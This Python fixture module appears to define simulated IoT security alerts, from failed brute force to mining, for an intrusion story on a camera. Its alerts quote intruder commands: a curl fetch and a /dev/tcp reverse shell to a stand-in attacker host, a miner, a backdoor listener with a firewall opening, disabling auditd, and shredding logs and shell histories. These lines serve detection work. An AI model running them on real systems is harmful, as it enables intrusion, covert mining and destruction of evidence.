"""The alerts that the intrusion raised, on the camera and on the gateway beside it."""
# ruff: noqa: S108, PLR0917 - what the intruder typed; an alert has as many columns as it has

from __future__ import annotations

from .alerts import Alert, State
from .clock import HOUR, MINUTE
from .side_stories import KNOCKED, SCAN
from .story import (
    ACCOMPLICE,
    ATTACKER,
    AUDIT_OFF,
    AUDIT_STOPPED,
    BACKDOOR_OPEN,
    MINER_STARTED,
    SIGNED_IN,
    STORY_DEVICE,
    USER_ADDED,
    USER_RAISED,
    at,
)

_ASK = "Ask the account's owner whether this was theirs, and for what reason"
_ESCALATE = "If nobody can vouch for it, hand the case to the security team"
_ISOLATE = "Take the device off the network, leave it powered"
_MINER = f"/tmp/.x/kworkerds -o {ATTACKER}:3333 -u plant7 -p x -B"
_NOHUP = f"nohup {_MINER}"
_USERADD = 'useradd -m -s /bin/bash -c "сервис 保守 backup" svc-backup'
_FETCH = f"curl -fsSL http://{ATTACKER}:8080/k/x.tgz -o /tmp/.x/x.tgz"
_SHELL = f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
_LISTEN = "/tmp/.x/dbus-hlp --listen 0.0.0.0:31337 --daemon"
_FIREWALL = "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT"
_SHRED = "shred -u /var/log/auth.log /var/log/wtmp"
_HISTORY = "rm -f /home/operator/.bash_history /root/.bash_history"


def _ran(
    key: str,
    name: str,
    kind: str,
    severity: str,
    start: int,
    description: str,
    command: str,
    user: str = "root",
    status: tuple[State, ...] = (),
    tactics: str = "",
    techniques: str = "",
) -> Alert:
    """An alert about a command line on the camera, told two minutes later."""
    return Alert(
        key=key,
        name=name,
        type=kind,
        severity=severity,
        device=STORY_DEVICE,
        start=start,
        states=(State(start - 2 * MINUTE, start), *status),
        description=description,
        remedy=(_ASK, _ESCALATE),
        properties={"Command Line": command, "User Name": user},
        account=user,
        command=command,
        tactics=tactics,
        techniques=techniques,
    )


STORY_ALERTS = (
    Alert(
        key="gw brute force",
        name="Failed Bruteforce",
        type="IoT_Bruteforce_Fail",
        severity="Low",
        device=KNOCKED,
        start=SCAN - 40,
        states=(State(SCAN - 6 * MINUTE, SCAN - 5 * MINUTE),),
        description="Many sign-ins from one address failed; none of them worked",
        remedy=("Let only known addresses reach SSH", "Look for the address on other devices"),
        properties={"Full Source Address": f'["{ATTACKER}:"]', "User Names": '["root","bridge"]'},
        address=ATTACKER,
    ),
    Alert(
        key="cam brute force fails",
        name="Failed Bruteforce",
        type="IoT_Bruteforce_Fail",
        severity="Low",
        device=STORY_DEVICE,
        start=at(0),
        states=(State(at(9), at(8)), State(at(21), at(20))),
        description="Many sign-ins from one address failed; none of them worked",
        remedy=("Let only known addresses reach SSH", "Look for the address on other devices"),
        properties={"Full Source Address": f'["{ATTACKER}:"]', "User Names": '["root","operator"]'},
        address=ATTACKER,
    ),
    Alert(
        key="cam brute force succeeds",
        name="Brute force attack succeeded",
        type="IoT_Bruteforce_Success",
        severity="High",
        device=STORY_DEVICE,
        start=at(0),
        states=(
            State(SIGNED_IN - MINUTE, SIGNED_IN),
            State(3 * HOUR + 12 * MINUTE, SIGNED_IN, "InProgress"),
        ),
        description="A sign-in worked after many from the same address had failed",
        remedy=(_ISOLATE, "Change the account's password on every device that has it", _ESCALATE),
        properties={"Full Source Address": f'["{ATTACKER}:"]', "User Names": '["operator"]'},
        address=ATTACKER,
        account="operator",
        tactics="CredentialAccess",
        techniques='["T1110"]',
    ),
    _ran(
        "cam reconnaissance",
        "Local host reconnaissance detected",
        "IoT_LinuxReconnaissance",
        "Medium",
        at(26, 14),
        "Commands ran that a bot runs to learn where it has landed",
        "find / -perm -4000 -type f",
        "operator",
    ),
    _ran(
        "cam download",
        "Suspicious file download followed by file run activity",
        "IoT_DownloadFileThenRun",
        "Medium",
        at(35, 12),
        "A file was fetched and run at once",
        _FETCH,
        "operator",
    ),
    _ran(
        "cam reverse shell",
        "Reverse shells",
        "IoT_ReverseShell",
        "High",
        at(38, 1),
        "A shell was tied to a machine elsewhere",
        _SHELL,
        "operator",
        (State(3 * HOUR + 11 * MINUTE, at(70), "InProgress"),),
        "Execution,CommandAndControl",
    ),
    _ran(
        "cam useradd",
        "Detected suspicious use of the useradd command",
        "IoT_SuspiciousUseradd",
        "Medium",
        USER_ADDED,
        "useradd was used in an odd way",
        _USERADD,
    ),
    _ran(
        "cam listener",
        "Possible backdoor detected",
        "IoT_LinuxBackdoor",
        "Medium",
        BACKDOOR_OPEN,
        "A file that was fetched runs and waits for connections",
        _LISTEN,
    ),
    _ran(
        "cam firewall",
        "Disable firewall",
        "IoT_DisableFirewall",
        "High",
        at(58, 52),
        "The firewall of the host was loosened",
        _FIREWALL,
    ),
    Alert(
        key="cam group",
        name="Local user added to one or more groups",
        type="",
        severity="Low",
        device=STORY_DEVICE,
        start=USER_RAISED,
        states=(State(4 * HOUR + 4 * MINUTE, USER_RAISED),),
        description="A local user became a member of a group",
        remedy=(_ASK, "Take the user out of the group", _ESCALATE),
        properties={"User Name": "svc-backup", "Group Names": '["sudo"]'},
        account="svc-backup",
    ),
    _ran(
        "cam audit off",
        "Possible attempt to disable Auditd logging detected",
        "IoT_DisableAuditdLogging",
        "High",
        AUDIT_OFF + 2,
        "Kernel audit was switched off; what followed may not be on record",
        "auditctl -e 0",
    ),
    _ran(
        "cam nohup",
        "Detected suspicious use of the nohup command",
        "IoT_SuspiciousNohup",
        "Medium",
        at(80, 25),
        "nohup keeps a program from a temporary folder running",
        _NOHUP,
    ),
    _ran(
        "cam miner",
        "Crypto Coin Miner",
        "IoT_CryptoMiner",
        "Medium",
        MINER_STARTED,
        "A program that digs for coins was started",
        _MINER,
    ),
    _ran(
        "cam logs removed",
        "Removal of system logs files detected",
        "IoT_RemovelOfSystemLogs",
        "Medium",
        at(87, 33),
        "Log files of the system were removed",
        _SHRED,
    ),
    _ran(
        "cam history",
        "Bash history cleared",
        "IoT_ClearHistoryFile",
        "Low",
        at(88, 2),
        "The history of a shell was wiped",
        _HISTORY,
    ),
    _ran(
        "cam audit stopped",
        "Possible attempt to disable Auditd logging detected",
        "IoT_DisableAuditdLogging",
        "High",
        AUDIT_STOPPED + 2,
        "Kernel audit was switched off; what followed may not be on record",
        "service auditd stop",
    ),
    Alert(
        key="cam threat list",
        name="Suspicious IP address communication",
        type="IoT_TiConnection",
        severity="Medium",
        device=STORY_DEVICE,
        start=at(33, 8),
        states=(State(at(100), at(95)), State(14 * MINUTE, 20 * MINUTE)),
        description="The device talks with an address that is on a list of threats",
        remedy=("Block the address at the border", _ISOLATE, _ESCALATE),
        properties={
            "Remote Addresses": f'["{ATTACKER}","{ACCOMPLICE}"]',
            "Remote Ports": '["3333","4444","8080"]',
        },
        address=ATTACKER,
    ),
)
